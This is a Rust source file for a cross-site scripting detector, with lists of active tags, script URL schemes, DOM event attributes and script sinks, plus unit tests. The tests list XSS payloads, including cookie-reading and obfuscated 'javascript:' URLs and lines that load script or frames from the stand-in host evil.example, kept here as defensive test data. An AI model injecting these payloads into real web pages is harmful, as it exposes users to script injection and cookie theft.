//! Cross-site scripting: markup and URLs that run script once a browser parses them.
//!
//! Values are first HTML-normalised ([`super::decode::html_normalize`]): character references decoded,
//! tabs and newlines dropped, as a browser does before it reads a tag or a URL scheme. Text that merely
//! mentions `<` or "javascript" is not enough; the rules need a tag that runs script, an event-handler
//! attribute inside a tag, or a script URL where a URL would go.

use super::decode::html_normalize;
use super::{ByteSet, Needles, contains_any};

/// Tags that run or load active content on their own.
const ACTIVE_TAGS: [&str; 10] = [
    "script", "iframe", "frame", "frameset", "object", "embed", "applet", "base", "meta", "link",
];

/// URL schemes that run script.
const SCRIPT_SCHEMES: Needles<'static> =
    Needles::new(&["javascript:", "vbscript:", "livescript:", "data:text/html"]);

/// The first XSS rule `text` (decoded, lowercased) trips, if any.
pub(crate) fn detect(text: &str) -> Option<&'static str> {
    // What every rule needs: a tag, a scheme, a reference, a call or an assignment (`\xef` starts a
    // fullwidth `<`, which the normalisation turns into one).
    const NEEDED: ByteSet = ByteSet::new(b"<:&\t\n(`=\xef");
    if !NEEDED.any_in(text.as_bytes()) {
        return None;
    }
    let text = html_normalize(text);
    let text = text.as_ref();
    for (at, _) in text.match_indices('<') {
        let rest = text.get(at + 1..).unwrap_or_default();
        let rest = rest.strip_prefix('/').unwrap_or(rest);
        let name_len = rest.bytes().take_while(u8::is_ascii_alphanumeric).count();
        if name_len == 0 {
            continue;
        }
        let name = rest.get(..name_len).unwrap_or_default();
        // The tag's inside: up to `>`, or the end of the value (a browser waits for the rest).
        let inside = rest.get(name_len..).unwrap_or_default();
        let inside = inside.split('>').next().unwrap_or_default();
        // `<script>` runs what follows it; the other active tags load nothing without an attribute
        // (`Promise<Object>` in a code comment is a type, not an embed).
        if ACTIVE_TAGS.contains(&name) && (name == "script" || !inside.trim().is_empty()) {
            return Some("xss-active-tag");
        }
        if has_event_handler(inside) {
            return Some("xss-event-handler");
        }
        if contains_any(inside, &SCRIPT_SCHEMES)
            || inside.contains("srcdoc")
            || inside.contains("expression(")
        {
            return Some("xss-script-url");
        }
    }
    // Breaking out of an attribute: `" onfocus=…`, ` onmouseover=…`.
    if has_event_handler(text) && known_event(text) {
        return Some("xss-event-handler");
    }
    // Breaking out of a script string: `";alert(1);//` (every sink is a call).
    if text.contains('(') && js_breakout(text) {
        return Some("xss-script-breakout");
    }
    // Every script URL has a scheme: without a `:` the rest cannot match.
    if !text.contains(':') {
        return None;
    }
    // An attribute assignment to a script URL outside a tag: `src=javascript:…`.
    if contains_any(text, &SCRIPT_SCHEMES)
        && SCRIPT_SCHEMES.words().iter().any(|scheme| {
            text.match_indices(scheme).any(|(at, _)| {
                let before = text.get(..at).unwrap_or_default().trim_end();
                let before = before.trim_end_matches(['"', '\'']).trim_end();
                before.ends_with('=')
            })
        })
    {
        return Some("xss-script-url");
    }
    // A value that *is* a script URL (a redirect target, a link the page will render).
    let start = text.trim_start_matches(|c: char| c.is_ascii_whitespace() || c.is_control());
    if SCRIPT_SCHEMES
        .words()
        .iter()
        .any(|scheme| start.starts_with(scheme))
    {
        return Some("xss-script-url");
    }
    None
}

/// DOM event attributes seen in attacks; outside a tag only these count, so `one=1` stays text.
const EVENTS: [&str; 24] = [
    "onload",
    "onerror",
    "onfocus",
    "onblur",
    "onclick",
    "ondblclick",
    "onmouseover",
    "onmouseenter",
    "onmouseout",
    "onmousedown",
    "onmouseup",
    "onkeydown",
    "onkeyup",
    "onkeypress",
    "oninput",
    "onchange",
    "onsubmit",
    "ontoggle",
    "onanimationstart",
    "onbegin",
    "onpageshow",
    "onresize",
    "onscroll",
    "onwheel",
];

fn known_event(text: &str) -> bool {
    EVENTS.iter().any(|e| text.contains(e))
}

/// Script sinks called right after a quote or a statement break: the shape of a string breakout.
const SINKS: [&str; 8] = [
    "alert(",
    "prompt(",
    "confirm(",
    "eval(",
    "settimeout(",
    "setinterval(",
    "document.write(",
    "import(",
];

fn js_breakout(text: &str) -> bool {
    // Every sink ends with `(`: look back from each `(` rather than search for each sink.
    text.match_indices('(').any(|(open, _)| {
        let upto = text.get(..=open).unwrap_or_default();
        SINKS.iter().any(|sink| {
            upto.strip_suffix(sink).is_some_and(|before| {
                let before = before.trim_end();
                before.is_empty()
                    || before.ends_with([';', '\'', '"', '+', '(', '{', '}', ',', '`', '|', '&'])
            })
        })
    })
}

/// `on<letters> =` as an attribute: preceded by whitespace, `/` or a quote.
fn has_event_handler(inside: &str) -> bool {
    let bytes = inside.as_bytes();
    // A scan for `on` by hand: a substring searcher's set-up costs more than these short values.
    let ons = bytes.windows(2).enumerate().filter(|(_, w)| w == b"on");
    ons.map(|(at, _)| at).any(|at| {
        let before = at.checked_sub(1).and_then(|i| bytes.get(i));
        if !matches!(before, Some(b' ' | b'/' | b'"' | b'\'' | b'\x0c')) {
            return false;
        }
        let after = bytes.get(at + 2..).unwrap_or_default();
        let letters = after.iter().take_while(|b| b.is_ascii_alphabetic()).count();
        letters > 0
            && after
                .get(letters..)
                .unwrap_or_default()
                .iter()
                .find(|b| !b.is_ascii_whitespace())
                == Some(&b'=')
    })
}

#[cfg(test)]
mod tests {
    use super::detect;

    #[test]
    fn script_in_its_many_spellings_is_caught() {
        for attack in [
            "<script>alert(1)</script>",
            "<scr<script>ipt>alert(1)</script>",
            "<img src=x onerror=alert(1)>",
            // Injected where script runs unquoted: a timer or a module import is a payload too.
            "settimeout(atob('ywxlcnqomsk='))",
            "import('//evil.example/x.js')",
            "<svg/onload=alert(1)>",
            "<body onload =alert(1)>",
            "<a href=\"javascript:alert(1)\">x</a>",
            "<a href=\"jav&#x09;ascript:alert(1)\">x</a>",
            "<a href=\"&#106;avascript:alert(1)\">",
            "javascript:alert(document.cookie)",
            "  javascript:alert(1)",
            "<iframe src=//evil.example>",
            "<div style=\"width: expression(alert(1))\">",
            "<iframe srcdoc=\"&lt;script&gt;alert(1)&lt;/script&gt;\">",
            "\"><script>alert(1)</script>",
            "<object data=\"data:text/html,<script>alert(1)</script>\">",
            "<details open ontoggle=alert(1)>",
        ] {
            assert!(detect(attack).is_some(), "missed: {attack}");
        }
    }

    #[test]
    fn ordinary_text_is_left_alone() {
        for text in [
            "a < b and c > d",
            // A type in a code comment: a bare `<object>` loads nothing.
            "`access.getcollaborators(spec, opts) -> promise<object>`",
            "i <3 edge",
            "learn javascript: the good parts",
            "<b>bold</b> and <i>italic</i>",
            "<p class=\"note\">hello</p>",
            "see the <button> component docs",
            "mention: \"on the one hand\"",
            "time: 10:30",
            "{\"html\":\"<em>hi</em>\"}",
            "salt & pepper",
            "<a href=\"https://example.com\">link</a>",
        ] {
            assert_eq!(detect(text), None, "false positive: {text}");
        }
    }
}
